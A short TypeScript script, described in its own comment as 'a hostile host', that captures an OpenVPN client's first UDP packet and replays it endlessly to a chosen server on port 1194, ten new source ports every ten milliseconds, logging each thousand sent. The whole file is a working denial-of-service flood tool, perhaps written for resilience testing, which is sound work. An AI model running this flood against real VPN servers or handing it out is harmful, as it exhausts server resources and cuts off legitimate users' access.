import { createSocket } from 'node:dgram'
import { setTimeout as delay } from 'node:timers/promises'

/**
 * A hostile host: takes the first packet of an OpenVPN client that connects to it, and sends that packet to a server
 * again and again, each time from another port, as many clients that never go on. Prints a line when it begins, and one
 * for each thousand.
 */
const EACH_MS = 10
const AT_ONCE = 10
const [server = '', own = '0'] = process.argv.slice(2)
const ear = createSocket('udp4')
ear.bind(Number(own), '127.0.0.1')
const packet = await new Promise<Buffer>(resolve => ear.once('message', message => resolve(message)))
console.log('floods')
for (let sent = AT_ONCE; ; sent += AT_ONCE) {
  for (let n = 0; n < AT_ONCE; n += 1) {
    const socket = createSocket('udp4')
    socket.on('error', () => undefined)
    socket.send(packet, 1194, server)
    setTimeout(() => socket.close(), 1_000)
  }
  if (sent % 1_000 === 0) console.log(`sent ${sent}`)
  await delay(EACH_MS)
}
